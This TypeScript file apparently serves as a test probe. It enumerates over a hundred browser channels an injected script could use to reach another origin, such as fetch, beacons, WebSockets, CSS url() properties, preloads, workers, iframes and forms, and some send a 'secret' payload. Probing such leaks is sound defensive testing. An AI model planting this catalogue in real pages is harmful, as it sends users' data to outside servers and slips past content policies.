/**
 * Runs in the page, as a script that got into it would: tries every way to another origin that leaves the page where it
 * is. Each asks for a path of its own, so that the stranger tells which of them arrived.
 *
 * @param url a star in it stands for the name of the way
 * @returns the names of the ways, which are the paths
 */
export function tryWays(url: string): string[] {
  const at = (name: string) => url.replace('*', name) + name;
  const sheet = new CSSStyleSheet();
  document.adoptedStyleSheets.push(sheet);
  const add = (tag: string, facts: Record<string, string>, parent: Element = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(facts)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const drawn = (tag: string, facts: Record<string, string>) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const element = document.createElementNS('http://www.w3.org/2000/svg', tag);
    for (const [name, value] of Object.entries(facts)) element.setAttribute(name, value);
    svg.append(element);
    document.body.append(svg);
  };
  const inMarkup = (name: string) => `<img src="${at(name)}">`;
  const styled = (property: string) => (name: string) => {
    const box = add('div', { class: name });
    box.textContent = name;
    sheet.insertRule(`.${name} { display: list-item; float: left; ${property.replace('URL', at(name))} }`);
    box.getBoundingClientRect();
  };
  const framed = (name: string, facts: Record<string, string>) => add('iframe', { ...facts, title: name });
  const blob = (text: string, type: string) => URL.createObjectURL(new Blob([text], { type }));
  const target = (name: string) => {
    add('iframe', { name });
    return name;
  };
  const link = (facts: Record<string, string>) => (name: string) =>
    add('link', { href: at(name), ...facts }, document.head);
  const request = (method: string, isAsync: boolean) => (name: string) => {
    const asked = new XMLHttpRequest();
    asked.open(method, at(name), isAsync);
    asked.send();
  };
  const run = (text: string, as: (text: string) => unknown) => as(text);
  const ways: Record<string, (name: string) => unknown> = {
    fetch: (name) => fetch(at(name)),
    'fetch-post': (name) => fetch(at(name), { method: 'POST', body: 'secret' }),
    'fetch-no-cors': (name) => fetch(at(name), { mode: 'no-cors' }),
    'fetch-keepalive': (name) => fetch(at(name), { mode: 'no-cors', keepalive: true }),
    'fetch-head': (name) => fetch(at(name), { method: 'HEAD', mode: 'no-cors' }),
    'fetch-credentials': (name) => fetch(at(name), { mode: 'no-cors', credentials: 'include' }),
    'fetch-request': (name) => fetch(new Request(at(name), { mode: 'no-cors' })),
    'xhr-get': request('GET', true),
    'xhr-post': request('POST', true),
    'xhr-sync': request('GET', false),
    beacon: (name) => navigator.sendBeacon(at(name), 'secret'),
    'beacon-blob': (name) => navigator.sendBeacon(at(name), new Blob(['secret'])),
    'beacon-form': (name) => navigator.sendBeacon(at(name), new FormData()),
    socket: (name) => new WebSocket(at(name).replace('http', 'ws')),
    events: (name) => new EventSource(at(name)),
    ping: (name) => add('a', { href: '#', ping: at(name) }).click(),
    image: (name) => (new Image().src = at(name)),
    'image-srcset': (name) => add('img', { srcset: at(name) }),
    'image-picture': (name) => {
      const picture = add('picture', {});
      add('source', { srcset: at(name) }, picture);
      add('img', {}, picture);
    },
    'image-input': (name) => add('input', { type: 'image', src: at(name) }),
    'image-svg': (name) => drawn('image', { href: at(name), width: '9', height: '9' }),
    'image-body': (name) => document.body.setAttribute('background', at(name)),
    'image-table': (name) => add('table', { background: at(name) }),
    'image-cell': (name) => add('td', { background: at(name) }, add('tr', {}, add('table', {}))),
    'image-poster': (name) => add('video', { poster: at(name) }),
    'image-embed': (name) => add('embed', { type: 'image/png', src: at(name) }),
    'image-object': (name) => add('object', { type: 'image/png', data: at(name) }),
    'image-decode': (name) => Object.assign(new Image(), { src: at(name) }).decode(),
    'image-crossorigin': (name) => add('img', { crossorigin: 'anonymous', src: at(name) }),
    'css-background': styled('background: url(URL)'),
    'css-background-image': styled('background-image: url(URL)'),
    'css-image-set': styled('background-image: image-set(url(URL) 1x)'),
    'css-cross-fade': styled('background-image: -webkit-cross-fade(url(URL), url(URL), 50%)'),
    'css-list': styled('list-style-image: url(URL)'),
    'css-border': styled('border: 9px solid; border-image: url(URL) 9'),
    'css-mask': styled('mask-image: url(URL)'),
    'css-content': styled('content: url(URL)'),
    'css-cursor': styled('cursor: url(URL), auto'),
    'css-shape': styled('shape-outside: url(URL)'),
    'css-variable': styled('--one: url(URL); background: var(--one)'),
    'css-mask-box': styled('-webkit-mask-box-image: url(URL)'),
    'css-reflect': styled('-webkit-box-reflect: below 0 url(URL)'),
    'css-before': (name) => {
      add('div', { class: name });
      sheet.insertRule(`.${name}::before { content: url(${at(name)}) }`);
    },
    'css-marker': (name) => {
      add('li', { class: name });
      sheet.insertRule(`.${name}::marker { content: url(${at(name)}) }`);
    },
    'css-first-letter': (name) => {
      add('p', { class: name }).textContent = 'letter';
      sheet.insertRule(`.${name}::first-letter { background: url(${at(name)}) }`);
    },
    'css-inline': (name) => (add('div', {}).style.backgroundImage = `url(${at(name)})`),
    'css-text': (name) => (add('div', {}).style.cssText = `background: url(${at(name)})`),
    'css-attribute': (name) => add('div', { style: `background: url(${at(name)})` }),
    'css-element': (name) =>
      (add('style', {}).textContent = `html { border-image: url(${at(name)}) 1; border: 1px solid }`),
    'css-import': (name) => (add('style', {}).textContent = `@import url(${at(name)});`),
    'css-animation': (name) =>
      add('div', {}).animate([{ backgroundImage: `url(${at(name)})` }, { backgroundImage: 'none' }], 60_000),
    'css-typed': (name) => add('div', {}).attributeStyleMap.set('background-image', `url(${at(name)})`),
    'font-face': (name) => new FontFace(name, `url(${at(name)})`).load(),
    'font-rule': (name) => {
      sheet.insertRule(`@font-face { font-family: ${name}; src: url(${at(name)}) }`);
      styled(`font-family: ${name}`)(name);
    },
    'link-style': link({ rel: 'stylesheet' }),
    'link-style-alternate': link({ rel: 'alternate stylesheet', title: 'other' }),
    'link-style-print': link({ rel: 'stylesheet', media: 'print' }),
    'link-icon': link({ rel: 'icon' }),
    'link-prefetch': link({ rel: 'prefetch' }),
    'link-prefetch-document': link({ rel: 'prefetch', as: 'document' }),
    'link-preload-image': link({ rel: 'preload', as: 'image' }),
    'link-preload-script': link({ rel: 'preload', as: 'script' }),
    'link-preload-style': link({ rel: 'preload', as: 'style' }),
    'link-preload-font': link({ rel: 'preload', as: 'font', crossorigin: '' }),
    'link-preload-fetch': link({ rel: 'preload', as: 'fetch', crossorigin: '' }),
    'link-preload-track': link({ rel: 'preload', as: 'track' }),
    'link-preload-srcset': (name) =>
      add('link', { rel: 'preload', as: 'image', imagesrcset: at(name) }, document.head),
    'link-module': link({ rel: 'modulepreload' }),
    script: (name) => add('script', { src: at(name) }),
    'script-module': (name) => add('script', { type: 'module', src: at(name) }),
    'script-async': (name) => add('script', { async: '', src: at(name) }),
    'script-svg': (name) => drawn('script', { href: at(name) }),
    'script-import': (name) => import(at(name)),
    'script-text': (name) =>
      (add('script', {}).textContent = `new Image().src = ${JSON.stringify(at(name))}`),
    'script-blob': (name) =>
      add('script', { src: blob(`new Image().src = ${JSON.stringify(at(name))}`, 'text/javascript') }),
    'script-data': (name) =>
      add('script', { src: `data:text/javascript,new Image().src = ${JSON.stringify(at(name))}` }),
    'text-timer': (name) =>
      run(`new Image().src = ${JSON.stringify(at(name))}`, (text) =>
        Reflect.apply(setTimeout, window, [text]),
      ),
    'text-handler': (name) =>
      add('button', { onclick: `new Image().src = ${JSON.stringify(at(name))}` }).click(),
    'worker-import': (name) =>
      new Worker(blob(`importScripts(${JSON.stringify(at(name))})`, 'text/javascript')),
    'worker-fetch': (name) => new Worker(blob(`fetch(${JSON.stringify(at(name))})`, 'text/javascript')),
    'worker-module': (name) =>
      new Worker(blob(`import ${JSON.stringify(at(name))}`, 'text/javascript'), { type: 'module' }),
    'worker-shared': (name) =>
      new SharedWorker(blob(`fetch(${JSON.stringify(at(name))})`, 'text/javascript')),
    'worklet-audio': (name) => new OfflineAudioContext(1, 1, 44_100).audioWorklet.addModule(at(name)),
    'markup-inner': (name) => (add('div', {}).innerHTML = inMarkup(name)),
    'markup-outer': (name) => (add('div', {}).outerHTML = inMarkup(name)),
    'markup-adjacent': (name) => add('div', {}).insertAdjacentHTML('beforeend', inMarkup(name)),
    'markup-unsafe': (name) => add('div', {}).setHTMLUnsafe(inMarkup(name)),
    'markup-range': (name) =>
      document.body.append(document.createRange().createContextualFragment(inMarkup(name))),
    'markup-parser': (name) =>
      document.body.append(...new DOMParser().parseFromString(inMarkup(name), 'text/html').body.childNodes),
    'frame-src': (name) => framed(name, { src: at(name) }),
    'frame-srcdoc': (name) => framed(name, { srcdoc: inMarkup(name) }),
    'frame-data': (name) => framed(name, { src: `data:text/html,${encodeURIComponent(inMarkup(name))}` }),
    'frame-blob': (name) => framed(name, { src: blob(inMarkup(name), 'text/html') }),
    'frame-sandboxed': (name) => framed(name, { src: at(name), sandbox: '' }),
    'frame-object': (name) => add('object', { type: 'text/html', data: at(name) }),
    'frame-embed': (name) => add('embed', { type: 'text/html', src: at(name) }),
    'frame-named': (name) => window.open(at(name), target(name)),
    'frame-link': (name) => add('a', { href: at(name), target: target(name) }).click(),
    video: (name) => add('video', { src: at(name), preload: 'auto' }),
    'video-source': (name) => add('source', { src: at(name) }, add('video', { preload: 'auto' })),
    audio: (name) => new Audio(at(name)).load(),
    'form-get': (name) => submit(add('form', { action: at(name), target: target(name) })),
    'form-post': (name) => submit(add('form', { action: at(name), method: 'post', target: target(name) })),
    'form-button': (name) =>
      add('button', { formaction: at(name) }, add('form', { target: target(name) })).click(),
  };
  function submit(form: Element) {
    if (form instanceof HTMLFormElement) form.submit();
  }
  for (const [name, way] of Object.entries(ways)) {
    void Promise.resolve(name)
      .then(way)
      .catch(() => undefined);
  }
  return Object.keys(ways);
}
